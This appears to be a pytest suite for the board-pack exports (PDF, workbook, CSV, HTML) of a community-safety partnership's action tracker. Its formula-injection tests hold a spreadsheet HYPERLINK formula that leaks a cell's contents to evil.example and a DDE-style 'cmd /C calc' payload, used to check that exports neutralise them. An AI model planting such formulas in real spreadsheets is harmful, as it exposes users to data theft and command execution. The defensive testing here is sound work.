"""The board pack: what a board member opens.

The PDF has its pages, its headings as bookmarks and the exception report's actions, and
nothing on its pages runs past the margins; the workbook loads, has a sheet per priority
(named in full, within Excel's limit) and the dashboard's figures, with every status a word
in a filled cell, every number a number and an autofilter on every table; the CSV has one
row per action; the HTML is one standalone printable document whose KPI charts have a few
round ticks on each axis; text that a spreadsheet would run as a formula is made harmless;
and the command line writes the file, or says why not and writes nothing.
"""

from __future__ import annotations

import base64
import csv
import io
import math
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from flask import Flask
from markupsafe import escape
from pypdf import PdfReader
from sqlalchemy import update

from tests.tracker.helpers import TODAY, db, pin_today, text_of
from tests.tracker.helpers import page as parsed
from tracker.db import get_session
from tracker.models import Action, ActionUpdate
from tracker.reports import dashboard
from tracker.reports.pack import FORMATS, NO_FILTERS, Pack, render
from tracker.reports.pack_xlsx import FILLS, SheetNames, cell_text, kpi_number
from tracker.services.plan_load import current_plan

SLUG, LABEL = "2025-26-Q2", "2025/26 Q2"
FILENAME = "safer-kingston-partnership-board-pack-2025-26-Q2"
WORDS = set(dashboard.WORDS.values())
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
PRIORITY_SHEETS = ["P1 Safe communities", "P2 Serious violence", "P3 Ending VAWG",
                   "P4 Thriving neighbourhoods"]
"""Kingston's priorities' sheets: ref and short title, "Serious violence and exploitation"
cut at a word to fit Excel's 31 characters."""



def board(app: Flask, fmt: str, slug: str = SLUG,
          filters: dashboard.Filters = NO_FILTERS) -> tuple[Pack, dashboard.Dashboard]:
    """The pack, and the dashboard the board sees for the same quarter."""
    with app.app_context():
        session = get_session()
        plan = current_plan(session)
        assert plan is not None
        quarter = dashboard.choose_quarter(plan, TODAY, slug)
        pack = render(fmt, session, plan, TODAY, quarter, filters, env=app.jinja_env)
        return pack, dashboard.build(session, plan, TODAY, quarter, filters)


def outline(reader: PdfReader) -> list[str]:
    titles: list[str] = []

    def walk(items: list[object]) -> None:
        for item in items:
            if isinstance(item, list):
                walk(item)
            else:
                titles.append(item.title)  # type: ignore[attr-defined]

    walk(reader.outline)  # type: ignore[arg-type]
    return titles


# -- PDF ----------------------------------------------------------------------------------------


def test_the_pdf_from_the_command_line_has_its_headings_pages_and_exceptions(
        demo_app: Flask, tmp_path: Path) -> None:
    out = tmp_path / "pack.pdf"
    result = demo_app.test_cli_runner().invoke(args=[
        "report", "board", "--quarter", SLUG, "--format", "pdf", "--out", str(out),
        "--today", TODAY.isoformat()])
    assert result.exit_code == 0, result.output
    reader = PdfReader(out)
    pages = len(reader.pages)
    assert pages > 1
    assert result.output.strip() == (
        f"Wrote board pack for {LABEL} (PDF, {pages} pages) to {out}")

    _, board_view = board(demo_app, "csv")
    bookmarks = outline(reader)
    expected = ["Summary", "Exception report",
                *(f"Priority {p.ref}: {p.title}" for p in board_view.priorities),
                "KPIs", "Open escalations", "Trend"]
    for title in expected:
        assert title in bookmarks, (title, bookmarks)
    # in the document's order: summary, exceptions, the priorities, KPIs, escalations
    assert [bookmarks.index(t) for t in expected] == sorted(bookmarks.index(t)
                                                            for t in expected)
    assert bookmarks[0] == f"Safer Kingston Partnership board pack: {LABEL}"
    # every KPI has its own heading, under "KPIs"
    for kpi in board_view.kpis:
        assert kpi.name in bookmarks

    text = "\n".join(page.extract_text() for page in reader.pages)
    flat = re.sub(r"\s+", " ", text)
    exceptions = board_view.exceptions()
    first_priority, first_rows = exceptions[0]
    red = first_rows[0]
    assert red.colour == "red"
    assert red.ref in flat and "Exception report" in flat
    assert f"Page 2 of {pages}" in flat
    assert f"Safer Kingston Partnership board pack: {LABEL}" in flat

    # tagged for accessibility: a structure tree, the language, the title shown
    root: Any = reader.trailer["/Root"]
    assert "/StructTreeRoot" in root
    assert root["/MarkInfo"]["/Marked"]
    assert root["/Lang"] == "en-GB"
    assert reader.metadata is not None
    assert reader.metadata.title == f"Safer Kingston Partnership board pack: {LABEL}"


def past_the_margins(document: str) -> tuple[int, list[str]]:
    """Lay ``document`` out on its pages as the PDF is (WeasyPrint) and walk every box of
    every page: its pages, and each box that reaches past the page's content area (inside
    the margins), by page, element, class and how far, in CSS pixels."""
    from weasyprint import HTML
    from weasyprint.formatting_structure import boxes

    rendered = HTML(string=document).render()
    found = []
    for number, page in enumerate(rendered.pages, start=1):
        area = page._page_box  # the laid-out page: its content box is the area inside margins
        left, top = area.content_box_x(), area.content_box_y()
        right, bottom = left + area.width, top + area.height
        stack = list(area.children)
        while stack:
            box = stack.pop()
            if isinstance(box, boxes.MarginBox):  # the running header and footer
                continue
            stack.extend(getattr(box, "children", ()))
            x, y = box.border_box_x(), box.border_box_y()
            over = max(left - x, x + box.border_width() - right,
                       top - y, y + box.border_height() - bottom)
            if over > 0.5:
                element = box.element_tag or type(box).__name__
                classes = box.element.get("class", "") if box.element is not None else ""
                text = getattr(box, "text", "")[:30]
                found.append(f"page {number}: <{element} class={classes!r}> {text!r} "
                             f"{over:.0f}px past")
    return len(rendered.pages), found


LONG_URL = ("https://www.kingston.gov.uk/community-safety/partnership/evidence/"
            "strategic-assessment-2025-annex-c-data-tables-and-methodology-notes.xlsx")
LONG_WORD = "Supercalifragilistic" * 8


def test_nothing_in_the_pdf_runs_past_the_margins(demo_app: Flask) -> None:
    # the widest things a pack holds: an address and a word that cannot break, in an
    # update's narrative, corrective action and concern, and in an action's title
    _, board_view = board(demo_app, "csv")
    target = next(r for _, rows in board_view.exceptions() for r in rows if r.update)
    with db(demo_app) as s:
        s.execute(update(ActionUpdate).where(ActionUpdate.action_id == target.id,
                                             ActionUpdate.quarter == LABEL)
                  .values(narrative=f"See {LONG_URL} for the figures.",
                          corrective_action=LONG_WORD, concern_reason=LONG_WORD))
        s.execute(update(Action).where(Action.id == target.id)
                  .values(title=f"Review {LONG_WORD} and {LONG_URL}"))
        s.commit()
    pack, _ = board(demo_app, "html")
    document = pack.content.decode("utf-8")
    assert LONG_URL in document and LONG_WORD in document
    pages, overflows = past_the_margins(document)
    assert pages > 10
    assert overflows == []

    # the check itself finds what runs past: a box too wide, and a word too long
    _, found = past_the_margins(
        "<style>@page { size: A4; margin: 20mm } .wide { width: 200mm }</style>"
        f'<div class="wide">A box</div><p>{LONG_WORD}</p>')
    assert len(found) >= 2 and any("'wide'" in f for f in found), found
    assert any(LONG_WORD[:30] in f for f in found), found


def test_a_pack_is_named_for_the_partnership_and_quarter(demo_app: Flask) -> None:
    pack, _ = board(demo_app, "csv")
    assert pack.filename == f"{FILENAME}.csv"
    assert pack.mimetype.startswith("text/csv")
    filtered, _ = board(demo_app, "csv", filters=dashboard.Filters(status="red"))
    assert filtered.filename == f"{FILENAME}-filtered.csv"


# -- XLSX ---------------------------------------------------------------------------------------


def test_the_workbook_matches_the_dashboard(demo_app: Flask) -> None:
    pack, board_view = board(demo_app, "xlsx")
    assert pack.filename == f"{FILENAME}.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(pack.content))
    priority_sheets = PRIORITY_SHEETS
    assert [p.ref for p in board_view.priorities] == ["1", "2", "3", "4"]
    assert book.sheetnames == ["Summary", "Exceptions", *priority_sheets, "Commitments",
                               "KPIs", "Escalations", "Trend", "Commentary"]
    assert pack.summary == f"XLSX, {len(book.sheetnames)} sheets"

    summary = book["Summary"]
    rows = [[c.value for c in row] for row in summary.iter_rows()]
    header = next(n for n, row in enumerate(rows) if row[0] == "Priority")
    assert rows[header][3:9] == ["Red", "Amber", "Green", "Complete", "No update",
                                 "Total actions"]
    assert summary.freeze_panes == f"A{header + 2}"
    assert summary.cell(header + 1, 1).font.b
    shown = {row[0]: row for row in rows[header + 1:header + 1 + len(board_view.priorities)]}
    for p in board_view.priorities:
        row = shown[p.ref]
        assert row[1] == p.title and row[2] == p.word
        assert row[3:8] == [p.action_counts[c] for c in dashboard.COLOURS], p.ref
        assert row[8] == p.action_counts.total
    totals = rows[header + 1 + len(board_view.priorities)]
    assert totals[3:9] == [*(board_view.action_counts[c] for c in dashboard.COLOURS),
                           len(board_view.actions)]

    with demo_app.app_context():
        plan = current_plan(get_session())
        assert plan is not None
        full_titles = {p.id: p.title for p in plan.priorities}
    for p, name in zip(board_view.priorities, priority_sheets, strict=True):
        sheet = book[name]
        # the sheet's name is short; its first row has the priority's full title
        assert sheet["A1"].value == f"Priority {p.ref}: {full_titles[p.ref]}"
        assert sheet["A1"].font.b
        assert sheet.freeze_panes == "A3"
        heads = [c.value for c in sheet[2]]
        assert heads[:7] == ["Ref", "Title", "Commitment", "Owner", "Lead agency", "Group",
                             "Status"]
        assert all(c.font.b for c in sheet[2])
        assert sheet.column_dimensions["B"].width and sheet.column_dimensions["B"].width > 30
        refs = [row[0].value for row in sheet.iter_rows(min_row=3)]
        assert refs == [r.ref for r in p.actions]
        status = heads.index("Status") + 1
        for n, action in enumerate(p.actions, start=3):
            cell = sheet.cell(n, status)
            assert cell.value == action.word
            assert cell.fill.fill_type == "solid"
            assert cell.fill.fgColor.rgb[-6:] == FILLS[action.colour][0]
    # a Red one, to be sure colours are not all the same
    red = next(r for p in board_view.priorities for r in p.actions if r.colour == "red")
    sheet = book[priority_sheets[[p.ref for p in board_view.priorities].index(red.priority_ref)]]
    row = next(row for row in sheet.iter_rows(min_row=3) if row[0].value == red.ref)
    assert row[6].value == "Red" and row[6].fill.fgColor.rgb[-6:] == "D4351C"

    exceptions = book["Exceptions"]
    listed = [row[1].value for row in exceptions.iter_rows(min_row=2)]
    assert listed == [r.ref for _, rows in board_view.exceptions() for r in rows]
    commitments = book["Commitments"]
    assert [(r[0].value, r[1].value, r[4].value) for r in commitments.iter_rows(min_row=2)] == [
        (p.ref, c.ref, c.word) for p in board_view.priorities for c in p.commitments]
    kpis = book["KPIs"]
    assert [row[0].value for row in kpis.iter_rows(min_row=2)] == [
        k.ref for k in board_view.kpis]
    escalations = book["Escalations"]
    assert escalations.max_row - 1 == len(board_view.open_escalations)


def header_row(sheet: Any) -> int:
    """The row of a table sheet's headers: 2 on a priority's sheet (its title is row 1),
    else 1."""
    return 2 if sheet["A1"].value and str(sheet["A1"].value).startswith("Priority ") else 1


def test_the_workbook_holds_numbers_as_numbers_and_filters_every_table(
        demo_app: Flask) -> None:
    pack, board_view = board(demo_app, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(pack.content))

    # every sheet that is one table has an autofilter over its header row and every row
    for sheet in book.worksheets:
        if sheet.title == "Summary":  # several small tables: no filter sweeping them up
            assert not sheet.auto_filter.ref
            continue
        head = header_row(sheet)
        last = openpyxl.utils.get_column_letter(sheet.max_column)
        assert sheet.auto_filter.ref == f"A{head}:{last}{max(sheet.max_row, head)}", sheet.title

    # the KPIs: values and targets are numbers, in their unit's format
    kpis = book["KPIs"]
    heads = [c.value for c in kpis[1]]
    assert heads[3:6] == ["Latest value", "Target", "Unit"]
    with demo_app.app_context():
        plan = current_plan(get_session())
        assert plan is not None
        units = {k.id: k.unit for k in plan.kpis}
    rows = {row[0].value: row for row in kpis.iter_rows(min_row=2)}
    seen_units = set()
    for k in board_view.kpis:
        value, target, unit = rows[k.ref][3], rows[k.ref][4], rows[k.ref][5]
        assert unit.value in ("Number", "Percent", "Rate", "Days", "Score", "Pounds (£)")
        for cell, text in ((value, k.value), (target, k.target)):
            if text in ("No data", "No target"):
                assert cell.value is None
                continue
            assert isinstance(cell.value, int | float) and cell.data_type == "n", (k.ref, text)
            shown = float(re.sub(r"[,%£]|\s*days?$", "", text))
            if units[k.ref] == "percent":
                assert cell.number_format in ("0%", "0.0%")
                assert cell.value * 100 == pytest.approx(shown, abs=0.051), (k.ref, text)
            else:
                assert cell.number_format in ("#,##0", "#,##0.0", '"£"#,##0', '"£"#,##0.00')
                assert cell.value == pytest.approx(shown, abs=0.051), (k.ref, text)
        seen_units.add(units[k.ref])
    assert {"count", "percent"} <= seen_units

    # counts and percentages elsewhere are numbers too, never text that looks like one
    looks_numeric = re.compile(r"[-+]?[\d,]+(\.\d+)?%?")
    for sheet in book.worksheets:
        head = 5 if sheet.title == "Summary" else header_row(sheet)
        names = [c.value for c in sheet[head]]
        for row in sheet.iter_rows(min_row=head + 1):
            for cell, name in zip(row, names, strict=False):
                if cell.column == 1 or name in ("Ref", "Commitment", "Part of", "Priorities"):
                    continue  # refs: identifiers ("1", "2.c"), kept as written
                if isinstance(cell.value, str):
                    assert not looks_numeric.fullmatch(cell.value), (sheet.title, name,
                                                                     cell.value)
                elif isinstance(cell.value, int | float):
                    assert cell.number_format != "General" or isinstance(cell.value, float), (
                        sheet.title, name, cell.value)
    summary = book["Summary"]
    total = next(row for row in summary.iter_rows() if row[0].value == "All")
    assert total[8].value == len(board_view.actions) and total[8].number_format == "#,##0"

    # % complete: Excel's percentages (0.45 shown as 45%)
    sheet = book[PRIORITY_SHEETS[0]]
    heads = [c.value for c in sheet[2]]
    done = heads.index("% complete")
    by_ref = {a.ref: a for a in board_view.priorities[0].actions}
    checked = 0
    for row in sheet.iter_rows(min_row=3):
        action = by_ref[row[0].value]
        if action.update is None:
            assert row[done].value is None
            continue
        assert row[done].value == pytest.approx(action.update.percent_complete / 100)
        assert row[done].number_format == "0%"
        checked += 1
    assert checked


@pytest.mark.parametrize(("unit", "value", "stored", "number_format"), [
    ("count", 1420, 1420, "#,##0"),
    ("count", 12.5, 12.5, "#,##0.0"),
    ("percent", 71, 0.71, "0%"),
    ("percent", 36.2, 0.362, "0.0%"),
    ("currency", 12500, 12500, '"£"#,##0'),
    ("currency", 12.75, 12.75, '"£"#,##0.00'),
    ("days", 12, 12, "#,##0"),
    ("rate", 118.4, 118.4, "#,##0.0"),
])
def test_a_kpi_value_in_its_unit(unit: str, value: float, stored: float,
                                 number_format: str) -> None:
    assert kpi_number(unit, value) == (stored, number_format)


def test_sheet_names_are_ones_excel_accepts() -> None:
    names = SheetNames()
    first = names("3 Crime/ASB: [hot]spots*? and more words to cut short")
    assert not set("[]:*?/\\") & set(first)
    assert len(first) <= 31
    again = names("3 Crime/ASB: [hot]spots*? and more words to cut short")
    assert again != first and again.endswith("(2)") and len(again) <= 31
    assert names("summary") == "summary" and names("Summary") == "Summary (2)"
    assert names("History") == "History (1)"
    assert names("''") == "Sheet"


def test_long_sheet_names_are_cut_at_a_word_and_stay_unique() -> None:
    names = SheetNames()
    assert names("P2 Serious violence and exploitation") == "P2 Serious violence"
    assert names("P2 Serious violence and exploitation") == "P2 Serious violence (2)"
    assert names("P1 Safe communities") == "P1 Safe communities"  # fits: as it is
    # never ending on a word that leaves it dangling
    assert names("P5 Reducing reoffending through the work of the probation service") == (
        "P5 Reducing reoffending")
    # a single word too long for the limit is the only thing cut inside a word
    assert names("P6 " + "x" * 40) == "P6"
    assert names("y" * 40) == "y" * 31
    assert names("P7 Neighbourhoods where everyone feels safe and welcome") == (
        "P7 Neighbourhoods where")
    for n in range(2, 12):
        name = names("P7 Neighbourhoods where everyone feels safe and welcome")
        assert len(name) <= 31 and name.startswith("P7 Neighbourhoods where"), name
        assert name.endswith(f"({n})"), name


# -- CSV ----------------------------------------------------------------------------------------


def test_the_csv_has_one_row_per_action(demo_app: Flask) -> None:
    pack, board_view = board(demo_app, "csv")
    assert pack.content.startswith(b"\xef\xbb\xbf")  # so that Excel reads it as UTF-8
    rows = list(csv.DictReader(io.StringIO(pack.content.decode("utf-8-sig"))))
    assert [r["Ref"] for r in rows] == [a.ref for p in board_view.priorities
                                        for a in p.actions]
    assert len(rows) == len(board_view.actions) == pack.parts
    by_ref = {a.ref: a for a in board_view.actions}
    for row in rows:
        action = by_ref[row["Ref"]]
        assert row["Status"] == action.word
        assert row["Priority"] == action.priority_ref
        assert row["Reason"] == action.reason
    assert set(rows[0]) >= {"Priority", "Title", "Commitment", "Owner", "Lead agency", "Group",
                            "Rule", "% complete", "Narrative", "Corrective action",
                            "Status in 2025/26 Q1", "Change"}


def test_a_filtered_csv_has_only_the_actions_shown(demo_app: Flask) -> None:
    pack, board_view = board(demo_app, "csv", filters=dashboard.Filters(status="red"))
    rows = list(csv.DictReader(io.StringIO(pack.content.decode("utf-8-sig"))))
    assert rows and {r["Status"] for r in rows} == {"Red"}
    assert len(rows) == len(board_view.actions)


# -- HTML ---------------------------------------------------------------------------------------


def test_the_html_is_one_standalone_printable_document(demo_app: Flask) -> None:
    pack, board_view = board(demo_app, "html")
    html = pack.content.decode("utf-8")
    assert html.startswith("<!DOCTYPE html>") and '<html lang="en-GB">' in html
    assert "<style>" in html and "@page" in html and "counter(pages)" in html
    assert "<link" not in html and "<script" not in html
    assert ' style="' not in html  # one <style> element, no style attributes: CSP can hash it
    assert not re.search(r'\ssrc="(?!data:)', html)  # nothing fetched from anywhere
    document = parsed(html)
    # headings in order, never skipping a level
    levels = [int(h.name[1]) for h in document.find_all(["h1", "h2", "h3", "h4", "h5", "h6"])]
    assert levels[0] == 1 and levels.count(1) == 1
    assert all(b - a <= 1 for a, b in zip(levels, levels[1:], strict=False))
    # every header cell says what it heads
    assert [th for th in document.find_all("th") if not th.has_attr("scope")] == []
    # a status is a word in a box, never colour alone
    tags = document.select("span.tag")
    assert tags
    for tag in tags:
        [colour] = [c.removeprefix("tag-") for c in tag["class"] if c.startswith("tag-")]
        assert tag.get_text() in WORDS | {"No data"}, tag.get_text()
        assert colour in dashboard.COLOURS
    # each KPI's chart, drawn in the document, with its text alternative
    charts = document.select("img.kpi-chart")
    assert len(charts) == len(board_view.kpis)
    assert all(img["src"].startswith("data:image/svg+xml;base64,") for img in charts)
    assert "described in words below it" in charts[0]["alt"]


def chart_ticks(svg: bytes) -> tuple[list[tuple[float, str]], list[float], float]:
    """A pack chart's time labels (where each is centred, and its lines joined by a space),
    its value ticks, and its width."""
    ns = "{http://www.w3.org/2000/svg}"
    root = ET.fromstring(svg)
    values: list[float] = []
    periods: dict[float, list[str]] = {}
    for text in root.iter(f"{ns}text"):
        for span in text.iter(f"{ns}tspan"):
            if text.get("text-anchor") == "end":
                label = (span.text or "").replace(",", "").replace("%", "")
                values.append(float(label.replace("\u00a3", "").replace("\u2212", "-")))
            else:
                periods.setdefault(float(span.get("x", "0")), []).append(span.text or "")
    width = float(root.get("viewBox", "0 0 0 0").split()[2])
    return [(x, " ".join(lines)) for x, lines in periods.items()], values, width


def test_the_kpi_charts_have_a_few_round_ticks_on_each_axis(demo_app: Flask) -> None:
    pack, board_view = board(demo_app, "html")
    prefix = "data:image/svg+xml;base64,"
    images = parsed(pack.content.decode("utf-8")).select("img.kpi-chart")
    assert all(str(img["src"]).startswith(prefix) for img in images)
    uris = [str(img["src"])[len(prefix):] for img in images]
    assert len(uris) == len(board_view.kpis) > 0
    for uri, kpi in zip(uris, board_view.kpis, strict=True):
        svg = base64.b64decode(uri)
        assert f"<title>Chart of {escape(kpi.name)}</title>".encode() in svg
        if kpi.value == "No data":
            continue
        labelled, ys, width = chart_ticks(svg)
        xs = [label for _, label in labelled]
        # periods: quarters (Q2 over 2025/26) or years, 4 to 7 evenly spread, or every
        # one when there are fewer (an annual KPI's three years so far)
        assert all(re.fullmatch(r"(Q[1-4] )?\d{4}/\d{2}", x) for x in xs), (kpi.ref, xs)
        counted = [int(x[-7:-3]) * 4 + (int(x[1]) - 1 if x.startswith("Q") else 0) for x in xs]
        gaps = {b - a for a, b in zip(counted, counted[1:], strict=False)}
        assert len(gaps) == 1, (kpi.ref, xs)
        assert 4 <= len(xs) <= 7 or gaps == {4 if xs[0][0] != "Q" else 1}, (kpi.ref, xs)
        # set side by side without touching, and on the chart
        centres = [x for x, _ in labelled]
        widest = 6 * max(len(part) for label in xs for part in label.split())
        assert all(b - a > widest for a, b in zip(centres, centres[1:], strict=False)), (
            kpi.ref, centres)
        assert centres[0] - widest / 2 > 0 and centres[-1] + widest / 2 < width
        # values: 4 to 7 round numbers, evenly spaced, the axis ending on them
        assert 4 <= len(ys) <= 7, (kpi.ref, ys)
        steps = {round(b - a, 9) for a, b in zip(ys, ys[1:], strict=False)}
        assert len(steps) == 1, (kpi.ref, ys)
        step = steps.pop()
        assert round(step / 10 ** math.floor(math.log10(step)), 9) in (1, 2, 2.5, 5), ys


# -- formula injection ----------------------------------------------------------------------


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_would_run_as_a_formula_gets_an_apostrophe(value: str) -> None:
    assert cell_text(value) == "'" + value
    assert cell_text("Fine = good") == "Fine = good"
    assert cell_text(42) == 42 and cell_text(None) is None


def test_a_formula_typed_in_an_update_is_harmless_in_the_csv_and_the_workbook(
        kingston_app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    pin_today(monkeypatch)
    result = kingston_app.test_cli_runner().invoke(args=["demo", "--today", TODAY.isoformat()])
    assert result.exit_code == 0, result.output
    _, board_view = board(kingston_app, "csv")
    target = next(r for _, rows in board_view.exceptions() for r in rows if r.update)
    with db(kingston_app) as s:
        s.execute(update(ActionUpdate).where(ActionUpdate.action_id == target.id,
                                             ActionUpdate.quarter == LABEL)
                  .values(narrative=EVIL, corrective_action="@SUM(1+1)*cmd|' /C calc'!A0"))
        s.commit()

    pack, _ = board(kingston_app, "csv")
    rows = {r["Ref"]: r for r in csv.DictReader(io.StringIO(pack.content.decode("utf-8-sig")))}
    assert rows[target.ref]["Narrative"] == "'" + EVIL
    assert rows[target.ref]["Corrective action"].startswith("'@SUM")

    pack, _ = board(kingston_app, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(pack.content))
    sheet = next(book[n] for n in book.sheetnames if n.startswith(f"P{target.priority_ref} "))
    heads = [c.value for c in sheet[2]]
    row = next(r for r in sheet.iter_rows(min_row=3) if r[0].value == target.ref)
    narrative = row[heads.index("Narrative")]
    assert narrative.value == "'" + EVIL and narrative.data_type == "s"
    assert row[heads.index("Corrective action")].value.startswith("'@SUM")
    exceptions = book["Exceptions"]
    heads = [c.value for c in exceptions[1]]
    row = next(r for r in exceptions.iter_rows(min_row=2) if r[1].value == target.ref)
    assert row[heads.index("Narrative")].value == "'" + EVIL


# -- the command line -------------------------------------------------------------------------


@pytest.mark.parametrize(("quarter", "says"), [
    ("2099-00-Q1", "has no statuses: choose a quarter from 2024/25 Q1 to 2026/27 Q2"),
    ("next-quarter", "'next-quarter' is not a quarter"),
])
def test_a_bad_quarter_writes_nothing_and_says_why(kingston_app: Flask, tmp_path: Path,
                                                   quarter: str, says: str) -> None:
    folder = tmp_path / "packs"
    folder.mkdir()
    out = folder / "pack.pdf"
    result = kingston_app.test_cli_runner().invoke(args=[
        "report", "board", "--quarter", quarter, "--format", "pdf", "--out", str(out),
        "--today", TODAY.isoformat()])
    assert result.exit_code != 0
    assert says in result.output
    assert "No board pack was written." in result.output
    assert list(folder.iterdir()) == []


def test_the_command_takes_the_format_from_the_file_and_replaces_it_whole(
        demo_app: Flask, tmp_path: Path) -> None:
    folder = tmp_path / "packs"
    folder.mkdir()
    out = folder / "board.xlsx"
    out.write_bytes(b"an older pack")
    result = demo_app.test_cli_runner().invoke(args=[
        "report", "board", "--quarter", SLUG, "--out", str(out), "--today", TODAY.isoformat()])
    assert result.exit_code == 0, result.output
    assert "(XLSX, " in result.output and "sheets)" in result.output
    assert openpyxl.load_workbook(out).sheetnames[0] == "Summary"
    assert [p.name for p in folder.iterdir()] == ["board.xlsx"]  # no temporary file left


def test_without_a_quarter_the_pack_is_for_the_open_quarter(demo_app: Flask,
                                                            tmp_path: Path) -> None:
    out = tmp_path / "open.csv"
    result = demo_app.test_cli_runner().invoke(args=[
        "report", "board", "--out", str(out), "--today", TODAY.isoformat()])
    assert result.exit_code == 0, result.output
    assert result.output.startswith("Wrote board pack for 2026/27 Q2 (CSV, ")


def test_every_format_is_made(demo_app: Flask) -> None:
    assert FORMATS == ("pdf", "xlsx", "csv", "html")
    with pytest.raises(ValueError, match="'docx' is not a board pack format"):
        board(demo_app, "docx")


def test_a_large_plan_keeps_the_document_proportionate(demo_app: Flask,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """Past a few dozen per priority, the document counts the exceptions by commitment,
    lists the worst commitments, and says how many more there are and where to find them
    (the workbook and CSV have every action)."""
    from tracker.reports import pack as board_pack

    monkeypatch.setattr(board_pack, "LISTED", 2)
    monkeypatch.setattr(board_pack, "COMMITMENTS_LISTED", 3)
    monkeypatch.setattr(board_pack, "EXCEPTIONS_BY_COMMITMENT", 1)
    monkeypatch.setattr(board_pack, "ESCALATIONS_LISTED", 1)
    pack, board_view = board(demo_app, "html")
    document = parsed(pack.content.decode("utf-8"))
    text = text_of(document)
    first, rows = board_view.exceptions()[0]
    assert len(rows) > 2
    exceptions = document.select_one("section#exceptions")
    assert exceptions is not None
    summary = exceptions.find("h3").find_next("table")
    # no action is listed: the commitment with most Red (then Amber) is, with its counts
    assert not any(row.ref in text_of(summary) for row in rows)
    counted: dict[str, list[int]] = {}
    for row in rows:
        counts = counted.setdefault(row.commitment_ref, [0, 0, 0])
        counts[0 if row.colour == "red" else 1 if row.colour == "amber" else 2] += 1
    order = [c.ref for c in first.commitments]
    worst = min(counted, key=lambda ref: (-counted[ref][0], -counted[ref][1], -counted[ref][2],
                                          order.index(ref)))
    [listed] = summary.select('th[scope="row"]')
    assert listed.select_one("span.ref").get_text() == worst
    cells = [int(td.get_text()) for td in summary.select("td.num")]
    assert cells == counted[worst]
    if len(counted) > 1:
        left = sum(sum(counts) for ref, counts in counted.items() if ref != worst)
        assert (f"And {len(counted) - 1} more commitments and parts, with {left} exceptions"
                in text)
    assert "Every action, with its reason, corrective action and narrative, is in the XLSX" \
        in text
    heading = next(h for h in document.find_all("h2")
                   if text_of(h) == f"Priority {first.ref}: {first.title}")
    section = heading.find_parent("section")
    commitments = next(h for h in section.find_all("h3")
                       if text_of(h) == "Commitments").find_next("table")
    listed_refs = [th.select_one("span.ref").get_text()
                   for th in commitments.select('th[scope="row"]')]
    # the worst are the ones listed
    worst_three = sorted(first.commitments, key=lambda c: board_pack.ATTENTION.index(c.colour))[:3]
    assert sorted(listed_refs) == sorted(c.ref for c in worst_three)
    assert f"And {len(first.commitments) - 3} more commitments and parts (" in text
    assert len(board_view.open_escalations) > 1
    assert f"And {len(board_view.open_escalations) - 1} more open escalations (" in text

def test_past_a_score_of_kpis_the_document_tables_them_all_and_charts_the_worst(
        demo_app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    from tracker.reports import pack as board_pack

    _pack, board_view = board(demo_app, "html")
    kpis = board_view.kpis
    monkeypatch.setattr(board_pack, "KPIS_CHARTED", 2)
    pack, _ = board(demo_app, "html")
    section = parsed(pack.content.decode("utf-8")).select_one("section#kpis")
    assert section is not None
    text = text_of(section)
    assert f"The {len(kpis)} KPIs as measured at the end of" in text
    assert "then the charts of the 2 most in need of attention" in text
    every = next(h for h in section.find_all("h3") if text_of(h) == "Every KPI")
    assert [text_of(th) for th in every.find_next("table").select('th[scope="row"]')] == [
        k.name for k in kpis]
    rank = ("red", "amber", "grey", "green")
    worst = sorted(range(len(kpis)), key=lambda n: (rank.index(kpis[n].status), n))[:2]
    charted = next(h for h in section.find_all("h3")
                   if text_of(h) == "Charts of the KPIs most in need of attention")
    titles = [h for h in charted.find_all_next("h4") if section in h.parents]
    assert [text_of(h) for h in titles] == [kpis[n].name for n in sorted(worst)]
    assert len(section.select("img.kpi-chart")) == 2

def test_a_missing_folder_or_a_failure_leaves_no_file_behind(
        kingston_app: Flask, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    runner = kingston_app.test_cli_runner()
    missing = tmp_path / "nowhere" / "pack.csv"
    result = runner.invoke(args=["report", "board", "--out", str(missing),
                                 "--today", TODAY.isoformat()])
    assert result.exit_code != 0
    assert "the folder" in result.output and "does not exist" in result.output
    assert not missing.parent.exists()

    from tracker.cli import reports as cli_reports

    folder = tmp_path / "packs"
    folder.mkdir()
    out = folder / "pack.csv"
    out.write_bytes(b"last quarter's pack")

    def full_disk(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(cli_reports.os, "replace", full_disk)
    result = runner.invoke(args=["report", "board", "--out", str(out),
                                 "--today", TODAY.isoformat()])
    assert result.exit_code != 0
    assert "Cannot write" in result.output and "No space left on device" in result.output
    assert out.read_bytes() == b"last quarter's pack"  # untouched
    assert [p.name for p in folder.iterdir()] == ["pack.csv"]  # no temporary file left
